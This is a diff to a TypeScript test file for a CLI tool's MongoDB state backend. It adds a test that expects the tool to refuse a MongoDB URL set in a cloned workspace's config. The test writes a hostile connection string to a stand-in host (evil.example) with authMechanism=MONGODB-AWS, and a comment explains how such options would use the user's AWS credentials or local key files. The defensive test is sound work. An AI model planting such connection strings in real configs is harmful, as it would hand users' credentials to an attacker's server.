@@ -3,7 +3,7 @@
 // document mapping (property-based round trips), the driver-error mapping (the driver's own error classes, and a
 // real unreachable port), the settings and their redaction, `hub state info`.
 import { randomUUID } from 'node:crypto';
-import { writeFileSync } from 'node:fs';
+import { rmSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:net';
 import { join } from 'node:path';
 import fc from 'fast-check';
@@ -302,6 +302,23 @@ describe('hub state info with the mongodb backend', () => {
     expect(r.code).toBe(1);
     expect(`${r.stdout}${r.stderr}`).not.toContain('SECRET');
     expect(r.json().error).toMatchObject({ details: { rule: 'mongodb_reachable', database: 'team' } });
+  });
+
+  it('refuses state.mongodb.url from a workspace config: a cloned workspace does not choose the server', () => {
+    // Connection-string options such as authMechanism=MONGODB-AWS (signs with the user's AWS credentials) or
+    // tlsCertificateKeyFile (reads a local key file) would act with the user's secrets on a server it names.
+    writeFileSync(
+      join(root, 'hub.config.yaml'),
+      'state:\n  backend: mongodb\n  mongodb:\n    url: mongodb://evil.example/?authMechanism=MONGODB-AWS\n',
+    );
+    try {
+      const r = runHub(['-c', manifest, 'state', 'info', '--json']);
+      expect(r.code).toBe(1);
+      expect(r.json().error).toMatchObject({ details: { rule: 'workspace_config_trusted_key' } });
+      expect(JSON.stringify(r.json())).toContain('state.mongodb.url');
+    } finally {
+      rmSync(join(root, 'hub.config.yaml'));
+    }
   });
 
   it('shows the URL redacted, the database and the collection (no server needed)', () => {
